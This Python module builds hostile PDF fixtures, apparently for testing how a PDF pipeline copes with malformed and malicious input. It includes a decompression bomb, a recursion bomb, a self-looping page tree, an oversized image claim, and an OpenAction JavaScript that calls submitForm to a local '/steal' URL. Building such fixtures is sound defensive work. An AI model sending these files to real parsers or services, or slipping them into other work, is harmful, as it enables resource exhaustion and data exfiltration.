"""Hostile PDFs, built with reportlab and pypdf at test time."""

from __future__ import annotations

import io
import zlib

import pypdf
from pypdf.actions import JavaScript
from reportlab.pdfgen import canvas


def plain_pdf(tag: str, pages: int = 1) -> bytes:
    """A small honest PDF with some text, unique per `tag`."""
    buf = io.BytesIO()
    c = canvas.Canvas(buf)
    for i in range(pages):
        c.drawString(72, 720, f"hostile corpus {tag} page {i + 1}: not an invoice, just text")
        c.showPage()
    c.save()
    return buf.getvalue()


def truncated(tag: str, fraction: float) -> bytes:
    """A real PDF cut at `fraction` of its length (a broken download)."""
    data = plain_pdf(tag)
    return data[:max(9, int(len(data) * fraction))]


def corrupt_xref(tag: str) -> bytes:
    """Every xref offset points at garbage, and the objects are mangled too."""
    data = plain_pdf(tag)
    head, _, tail = data.partition(b"xref")
    head = head.replace(b" obj", b" jbo").replace(b"endobj", b"enbodj")
    lines = tail.split(b"\n")
    out = [b"9999999999 65535 f " if len(l) >= 18 and l[:10].isdigit() else l for l in lines]
    return head + b"xref" + b"\n".join(out)


def garbage_after_header(tag: str) -> bytes:
    """A PDF header followed by noise and a fake trailer."""
    noise = zlib.compress(tag.encode() * 500)
    return b"%PDF-1.7\n" + noise + b"\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def encrypted(tag: str, user_password: str) -> bytes:
    """Encrypted with pypdf; an empty user password opens without asking."""
    w = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(plain_pdf(tag))))
    w.encrypt(user_password=user_password, owner_password="owner-" + tag)  # RC4: AES needs the cryptography package
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def with_javascript(tag: str) -> bytes:
    """An OpenAction JavaScript that would exfiltrate if anything ran it."""
    w = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(plain_pdf(tag))))
    w.add_open_action(JavaScript("this.submitForm('http://127.0.0.1:9/steal'); app.alert('" + tag + "');"))
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def many_pages(tag: str, count: int = 5000) -> bytes:
    """`count` blank pages (over the page limit)."""
    w = pypdf.PdfWriter()
    for _ in range(count):
        w.add_blank_page(width=200, height=200)
    w.add_metadata({"/Title": tag})
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def _raw_pdf(objects: list[bytes], tag: str) -> bytes:
    """A PDF from numbered object bodies (1-based), with a correct xref."""
    out = bytearray(b"%PDF-1.7\n%" + tag.encode() + b"\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def huge_image(tag: str, side: int = 100_000) -> bytes:
    """A page whose only image claims side x side pixels, backed by a tiny stream."""
    img = _stream(b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
                  b"/BitsPerComponent 8 /Filter /FlateDecode" % (side, side), zlib.compress(b"\0" * 4096))
    content = _stream(b"", b"q 500 0 0 500 0 0 cm /Im0 Do Q")
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 500 500] /Contents 4 0 R "
        b"/Resources << /XObject << /Im0 5 0 R >> >> >>",
        content, img], tag)


def flate_bomb_content(tag: str, inflated_mb: int = 300) -> bytes:
    """A page content stream that inflates to `inflated_mb` MB of spaces."""
    comp = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    packed = b"".join(comp.compress(chunk) for _ in range(inflated_mb)) + comp.flush()
    content = _stream(b"/Filter /FlateDecode", packed)
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 500 500] /Contents 4 0 R >>",
        content], tag)


def page_tree_loop(tag: str) -> bytes:
    """A page tree whose Kids point back at itself (an infinite walk)."""
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>"], tag)


def deep_nesting(tag: str, depth: int = 100_000) -> bytes:
    """An object nested `depth` arrays deep (a recursion bomb for parsers)."""
    return _raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Junk " + b"[" * depth + b"]" * depth + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 500 500] >>"], tag)


def no_pages(tag: str) -> bytes:
    """A valid structure with an empty page tree."""
    return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"], tag)


def lying_page_count(tag: str) -> bytes:
    """/Count claims a billion pages over an empty Kids array."""
    return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                     b"<< /Type /Pages /Kids [] /Count 1000000000 >>"], tag)
